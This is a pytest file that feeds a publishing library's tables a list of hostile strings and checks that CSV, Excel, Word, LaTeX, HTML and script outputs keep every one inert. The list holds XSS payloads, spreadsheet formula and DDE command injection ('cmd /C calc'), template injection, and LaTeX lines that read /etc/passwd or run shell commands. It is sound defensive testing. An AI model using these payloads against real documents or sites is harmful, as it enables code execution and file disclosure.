"""A table whose every text is an attack, in every format: read back it says what it said, and nothing of it runs."""

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from dataclasses import replace

import docx
import lxml.html
import pandas as pd
import pytest
from chromium import CHROMIUM, launched
from python_calamine import CalamineWorkbook

from publish.reading import LATEX, compiled, in_latex, in_word, opened
from publish.reading import words as cells_of
from tipimpact.publish import ResultTable
from tipimpact.publish.tables.cells import clean
from tipimpact.publish.tables.csv_format import codes_text
from tipimpact.publish.tables.docx_format import docx_bytes
from tipimpact.publish.tables.model import flat
from tipimpact.publish.tables.script_format import script_files
from tipimpact.publish.tables.table import RENDERERS
from tipimpact.publish.tables.tex_format import tex_text
from tipimpact.publish.words import LANGUAGES

EACH_LANGUAGE = pytest.mark.parametrize("lang", LANGUAGES)
HOSTILE = (
    "<script>document.title = 'alive'</script>",
    "<img src=x onerror=\"document.title='alive'\">",
    '" onmouseover="document.title=1" autofocus onfocus="document.title=1',
    "javascript:document.title='alive'",
    'https://x.example/"onclick="document.title=1',
    "]]>--></style></title></textarea></table><svg onload=alert(1)>",
    "{{ 7 * 7 }} {% raw %}",
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\N{FULLWIDTH EQUALS SIGN}SUM(1)",
    r"\input{/etc/passwd} \input{canary}",
    r"\write18{touch alive}\openout1=alive",
    r"$x^2$ % _ # & {} ~ \end{longtable}",
    "a\x00b\x1bc",
    "\N{RIGHT-TO-LEFT OVERRIDE}txt.exe\N{FIRST STRONG ISOLATE}",
)
COLUMNS = 6  # that a page holds
TEXTS = ("unit", "citation", "theme", "why_en", "why_fr", "superseded_by", "reviewed_by")


@pytest.fixture
def attacked(words, data, contract, sources) -> ResultTable:
    """The demo table with an attack in each text of each row, in the words that came with it and in its sources."""
    rows = pd.concat([data.iloc[[0]]] * len(HOSTILE), ignore_index=True)
    for name in TEXTS:
        rows[name] = HOSTILE
    rows["flags"] = [[text, text] for text in HOSTILE]
    rows = contract.conform(rows)
    said = dict.fromkeys(LANGUAGES, HOSTILE[0])
    rows.attrs = {**data.attrs, "plan_hash": HOSTILE[0], "labels": {"theme": {HOSTILE[1]: said}}}
    source = sources.sources[0]
    bad = source.model_copy(update={"citation": HOSTILE[0], "vintage": HOSTILE[1], "urls": [HOSTILE[4]]})
    return ResultTable(rows, contract, sources.model_copy(update={"sources": [bad, *sources.sources[1:]]}))


def unmarked(text: str) -> str:
    """Without the apostrophes that keep a formula from running."""
    return re.sub(r"(^|[;\r\n])'", r"\1", text)


@EACH_LANGUAGE
def test_no_formula_is_alive_in_csv(attacked, lang):
    text = attacked.render("csv", lang)
    view = attacked.view(lang)
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert len(read) == len(HOSTILE) + 1
    for said, row in zip(read[1:], view.rows, strict=True):
        for field, cell in zip(said, flat(row), strict=True):
            if cell.kind in ("text", "list"):
                assert not field.startswith(tuple("=+-@\t\r\n＝"))
                assert unmarked(field) == unmarked(cell.text)
    assert not re.search(r"[\x00\x1b\u202a-\u202e\u2066-\u2069]", text)


@EACH_LANGUAGE
def test_no_formula_and_no_link_is_alive_in_excel(attacked, lang):
    content, view = attacked.render("xlsx", lang), attacked.view(lang)
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        parts = {name: book.read(name).decode() for name in book.namelist() if name.endswith((".xml", ".rels"))}
    for name, part in parts.items():
        if name.startswith("xl/worksheets/"):
            assert not re.search(r"<f[ >]|<hyperlink", part), name
        assert 'TargetMode="External"' not in part, name
    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(1).to_python()
    for said, row in zip(rows[1:], view.rows, strict=True):
        for value, cell in zip(said, flat(row), strict=True):
            if cell.kind in ("text", "list"):
                assert isinstance(value, str)
                assert value.split() == cell.text.split()


COUNTED = r" SEQ (Table|Tableau) (\\c )?\\\* ARABIC "


@EACH_LANGUAGE
def test_word_holds_text_and_no_field(attacked, lang):
    view = attacked.view(lang)
    content = docx_bytes(view)
    assert in_word(content) == cells_of(view)
    with zipfile.ZipFile(io.BytesIO(content)) as file:
        document = file.read("word/document.xml").decode()
        fields = re.findall(r'<w:fldSimple\b[^>]* w:instr="([^"]*)"', document)
        assert document.count("<w:fldSimple") == len(fields)
        assert all(re.fullmatch(COUNTED, field) for field in fields), "the number of a caption, which goes on"
        assert not re.search(r"<w:(instrText|object)\b", document)
        assert not re.search(r"<w:tc>(?:(?!</w:tc>).)*<w:hyperlink", document, re.DOTALL), "no cell leads anywhere"
        related = file.read("word/_rels/document.xml.rels").decode()
        links = re.findall(r'Target="([^"]*)" TargetMode="External"', related)
        assert all(re.fullmatch(r"https?://[\w./?=&;%#~-]+", link) for link in links), links
    assert docx.Document(io.BytesIO(content)).tables


@EACH_LANGUAGE
@pytest.mark.skipif(not LATEX, reason="pdfLaTeX is not installed")
def test_latex_reads_no_file_and_runs_nothing(attacked, lang, tmp_path):
    view = attacked.view(lang)
    (tmp_path / "canary.tex").write_text("CANARY", encoding="utf-8")
    for first in range(0, len(view.headings), COLUMNS):
        own = slice(first, first + COLUMNS)
        part = replace(view, headings=view.headings[own], rows=[row[own] for row in view.rows])
        said = compiled(tex_text(part), tmp_path)
        assert not [name for name in ("canary", "etc/passwd") if re.search(rf"\([./]*{name}", said)], "a file was read"
        assert not [*tmp_path.glob("alive*")]
        assert in_latex(tex_text(part)) == cells_of(part)
    if shutil.which("pdftotext"):
        done = subprocess.run(["pdftotext", "whole.pdf", "-"], cwd=tmp_path, capture_output=True, text=True, check=True)
        assert "CANARY" not in done.stdout


def test_every_format_is_attacked_here():
    assert set(RENDERERS) == {"html", "csv", "xlsx"}


def test_no_formula_is_alive_in_the_csv_of_codes(attacked):
    text = codes_text(attacked.rows, {lang: attacked.view(lang) for lang in LANGUAGES}, ["r"] * len(HOSTILE))
    _head, *rows = csv.reader(io.StringIO(text, newline=""))
    assert len(rows) == len(HOSTILE)
    assert not [field for row in rows for field in row if field.startswith(("=", "+", "@", "\t", "\r", "＝"))]
    assert not re.search(r"[\x00\x1b\u202a-\u202e\u2066-\u2069]", text)
    french = [field for row in csv.reader(io.StringIO(text), delimiter=";") for field in row]
    assert not [field for field in french if field.startswith(("=", "+", "@", "\t", "\r", "＝"))]


def test_no_markup_ends_the_script_of_rows(attacked):
    views = {lang: attacked.view(lang) for lang in LANGUAGES}
    (text,) = script_files(
        views, ["r"] * len(attacked.data), [None] * len(attacked.data), {lang: {} for lang in LANGUAGES}
    )
    assert "<" not in text
    read = json.loads(text.removeprefix("tipimpact.rows(").removesuffix(");\n"))
    words = {value[0] for column in read["columns"] for value in column["values"]}
    assert {cell.text for row in views["en"].rows for cell in row} == words


def pages(attacked: ResultTable) -> dict[str, str]:
    return {lang: attacked.render("html", lang) for lang in LANGUAGES}


def test_no_markup_is_alive_in_html(attacked):
    for name, text in pages(attacked).items():
        page = lxml.html.document_fromstring(text)
        assert not page.xpath("//script | //svg | //img | //*[@autofocus] | //@*[starts-with(name(), 'on')]"), name
        assert not [href for href in page.xpath("//@href") if re.match(r"\s*(javascript|data:text)", href, re.I)]
        assert "\x00" not in text
        shown = "".join(page.itertext())
        for attack in HOSTILE:
            assert " ".join(clean(attack).split()) in " ".join(shown.split()), attack


@pytest.mark.browser
@pytest.mark.skipif(not CHROMIUM, reason="Chromium is not installed (Debian: chromium)")
def test_nothing_runs_in_chromium(attacked, tmp_path):
    with launched() as browser:
        for page in opened(browser):  # without errors, and asking nothing of the network
            page.on("dialog", lambda dialog: pytest.fail(f"a dialog opened: {dialog.message}"))
            for name, text in pages(attacked).items():
                (tmp_path / f"{name}.html").write_text(text, encoding="utf-8")
                page.goto((tmp_path / f"{name}.html").as_uri())
                title = page.title()
                for cell in page.locator("tbody td").all()[:40]:
                    cell.dispatch_event("mouseover")
                assert page.title() == title != "alive"
                assert page.locator("tbody tr").count() == len(HOSTILE)
